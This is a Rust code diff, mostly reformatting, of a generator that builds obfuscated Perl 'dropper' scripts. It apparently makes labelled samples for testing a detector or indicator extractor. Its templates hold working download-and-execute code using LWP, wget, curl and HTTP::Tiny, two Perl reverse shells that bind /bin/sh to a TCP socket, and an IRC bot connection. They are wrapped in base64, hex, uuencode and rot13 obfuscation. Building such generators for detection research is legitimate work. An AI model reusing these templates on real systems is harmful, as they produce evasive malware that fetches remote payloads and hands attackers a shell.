@@ -24,7 +24,11 @@ fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
         5 => format!("join('', map {{ chr }} ({}))", codes(text.bytes(), ",")),
         6 => format!("join('', map {{ chr($_) }} qw({}))", codes(text.bytes(), " ")),
         7 => {
-            let _ = writeln!(before, "my ${name} = '{}';\n${name} =~ tr/A-Za-z/N-ZA-Mn-za-m/;", rot13(text));
+            let _ = writeln!(
+                before,
+                "my ${name} = '{}';\n${name} =~ tr/A-Za-z/N-ZA-Mn-za-m/;",
+                rot13(text)
+            );
             format!("${name}")
         }
         8 => {
@@ -66,15 +70,23 @@ fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
 }
 
 pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
-    let mut text = dice.pick(&["#!/usr/bin/perl\n", "#!/usr/bin/perl -w\nuse strict;\n", "#!/usr/bin/env perl\n"]).to_owned();
+    let mut text = dice
+        .pick(&["#!/usr/bin/perl\n", "#!/usr/bin/perl -w\nuse strict;\n", "#!/usr/bin/env perl\n"])
+        .to_owned();
     for _ in 0..1 + dice.below(2) {
         let mut before = String::new();
         let line = delivery(dice, truth, &mut before);
         text.push_str(&before);
         text.push_str(&line);
+        if super::ends(&line) {
+            break;
+        }
     }
     match dice.below(8) {
-        0 => format!("#!/usr/bin/perl\nuse MIME::Base64;\neval(decode_base64('{}'));\n", base64(text.as_bytes())),
+        0 => format!(
+            "#!/usr/bin/perl\nuse MIME::Base64;\neval(decode_base64('{}'));\n",
+            base64(text.as_bytes())
+        ),
         1 => format!("#!/usr/bin/perl\neval pack('H*', '{}');\n", hex(text.as_bytes())),
         2 => format!("#!/usr/bin/perl\neval unpack u=>q{{{}}};\n", uuencoded(text.as_bytes())),
         3 => format!("#!/usr/bin/perl\nsub main {{\n{text}\n}}\nmain();\n"),
@@ -107,22 +119,30 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         0 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("use LWP::Simple;\ngetstore({url}, '{file}');\nchmod 0755, '{file}';\nsystem('{file}');\n")
+            format!(
+                "use LWP::Simple;\ngetstore({url}, '{file}');\nchmod 0755, '{file}';\nsystem('{file}');\n"
+            )
         }
         1 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("use LWP::Simple;\nmy ${var} = get({url});\nopen(my $fh, '>', '{file}');\nprint $fh ${var};\nclose($fh);\nsystem(\"perl {file}\");\n")
+            format!(
+                "use LWP::Simple;\nmy ${var} = get({url});\nopen(my $fh, '>', '{file}');\nprint $fh ${var};\nclose($fh);\nsystem(\"perl {file}\");\n"
+            )
         }
         2 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("use LWP::UserAgent;\nmy ${var} = LWP::UserAgent->new;\n${var}->agent('Mozilla/5.0');\n${var}->timeout(10);\nmy $res{var} = ${var}->get({url});\nif ($res{var}->is_success) {{ eval $res{var}->decoded_content; }}\n")
+            format!(
+                "use LWP::UserAgent;\nmy ${var} = LWP::UserAgent->new;\n${var}->agent('Mozilla/5.0');\n${var}->timeout(10);\nmy $res{var} = ${var}->get({url});\nif ($res{var}->is_success) {{ eval $res{var}->decoded_content; }}\n"
+            )
         }
         3 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("my ${var} = {url};\nsystem(\"wget -q ${var} -O {file}; chmod 777 {file}; {file}\");\n")
+            format!(
+                "my ${var} = {url};\nsystem(\"wget -q ${var} -O {file}; chmod 777 {file}; {file}\");\n"
+            )
         }
         4 => {
             let url = truth.url(dice, FILES);
@@ -132,27 +152,37 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
         5 => {
             let (host, port) = truth.endpoint(dice);
             let host = hide(dice, &host, before);
-            format!("use IO::Socket::INET;\nmy ${var} = IO::Socket::INET->new(PeerAddr => {host}, PeerPort => {port}, Proto => 'tcp');\nexit unless ${var};\nopen(STDIN, '<&', ${var});\nopen(STDOUT, '>&', ${var});\nexec('/bin/sh', '-i');\n")
+            format!(
+                "use IO::Socket::INET;\nmy ${var} = IO::Socket::INET->new(PeerAddr => {host}, PeerPort => {port}, Proto => 'tcp');\nexit unless ${var};\nopen(STDIN, '<&', ${var});\nopen(STDOUT, '>&', ${var});\nexec('/bin/sh', '-i');\n"
+            )
         }
         6 => {
             let (host, port) = truth.endpoint(dice);
             let host = hide(dice, &host, before);
-            format!("use Socket;\nmy ${var} = {host};\nmy $port{var} = {port};\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect(S, sockaddr_in($port{var}, inet_aton(${var})))) {{\n  open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');\n  exec('/bin/sh -i');\n}}\n")
+            format!(
+                "use Socket;\nmy ${var} = {host};\nmy $port{var} = {port};\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect(S, sockaddr_in($port{var}, inet_aton(${var})))) {{\n  open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');\n  exec('/bin/sh -i');\n}}\n"
+            )
         }
         7 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("use HTTP::Tiny;\nmy ${var} = HTTP::Tiny->new(timeout => 20);\n${var}->mirror({url}, '{file}');\nchmod(0755, '{file}');\nexec '{file}';\n")
+            format!(
+                "use HTTP::Tiny;\nmy ${var} = HTTP::Tiny->new(timeout => 20);\n${var}->mirror({url}, '{file}');\nchmod(0755, '{file}');\nexec '{file}';\n"
+            )
         }
         8 => {
             let (host, port) = truth.endpoint(dice);
             let host = hide(dice, &host, before);
-            format!("use IO::Socket;\nmy $server{var} = {host};\nmy $port{var} = '{port}';\nmy @chans{var} = ('#{var}');\nmy ${var} = IO::Socket::INET->new(PeerAddr => \"$server{var}:$port{var}\", Proto => 'tcp', Timeout => 10) or die 'no server';\nprint ${var} \"NICK {var}\\r\\nUSER a b c d\\r\\n\";\nwhile (my $line = <${var}>) {{\n  if ($line =~ /^PING (.*)/) {{ print ${var} \"PONG $1\\r\\n\"; }}\n}}\n")
+            format!(
+                "use IO::Socket;\nmy $server{var} = {host};\nmy $port{var} = '{port}';\nmy @chans{var} = ('#{var}');\nmy ${var} = IO::Socket::INET->new(PeerAddr => \"$server{var}:$port{var}\", Proto => 'tcp', Timeout => 10) or die 'no server';\nprint ${var} \"NICK {var}\\r\\nUSER a b c d\\r\\n\";\nwhile (my $line = <${var}>) {{\n  if ($line =~ /^PING (.*)/) {{ print ${var} \"PONG $1\\r\\n\"; }}\n}}\n"
+            )
         }
         9 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("my ${var} = {url};\nopen(my $p{var}, '-|', \"curl -fsSL ${var}\") or die;\nmy @lines{var} = <$p{var}>;\nclose($p{var});\n")
+            format!(
+                "my ${var} = {url};\nopen(my $p{var}, '-|', \"curl -fsSL ${var}\") or die;\nmy @lines{var} = <$p{var}>;\nclose($p{var});\n"
+            )
         }
         10 => {
             let url = truth.url(dice, FILES);
@@ -166,17 +196,24 @@ fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
                 truth.urls.insert(format!("http://{host}/{file}"));
             }
             let host = hide(dice, &host, before);
-            format!("my ${var} = {host};\nforeach my $f (qw({})) {{\n  system(\"wget http://${var}/$f -O /tmp/$f || curl -o /tmp/$f http://${var}/$f\");\n}}\n", files.join(" "))
+            format!(
+                "my ${var} = {host};\nforeach my $f (qw({})) {{\n  system(\"wget http://${var}/$f -O /tmp/$f || curl -o /tmp/$f http://${var}/$f\");\n}}\n",
+                files.join(" ")
+            )
         }
         12 => {
             let url = truth.url(dice, FILES);
             let url = hide(dice, &url, before);
-            format!("sub {var} {{\n  my ($u, $f) = @_;\n  my $c = \"curl -o $f $u 2>/dev/null\";\n  return qx/$c/;\n}}\n{var}({url}, '{file}');\n")
+            format!(
+                "sub {var} {{\n  my ($u, $f) = @_;\n  my $c = \"curl -o $f $u 2>/dev/null\";\n  return qx/$c/;\n}}\n{var}({url}, '{file}');\n"
+            )
         }
         _ => {
             let url = truth.url(dice, &[".sh"]);
             let url = hide(dice, &url, before);
-            format!("my %{var} = (url => {url}, dir => '/tmp');\nchdir ${var}{{dir}};\nif (!-e 'x.sh') {{\n  `wget ${var}{{url}} -O x.sh`;\n}}\nunless (fork()) {{ exec(\"sh x.sh\"); }}\n")
+            format!(
+                "my %{var} = (url => {url}, dir => '/tmp');\nchdir ${var}{{dir}};\nif (!-e 'x.sh') {{\n  `wget ${var}{{url}} -O x.sh`;\n}}\nunless (fork()) {{ exec(\"sh x.sh\"); }}\n"
+            )
         }
     }
 }
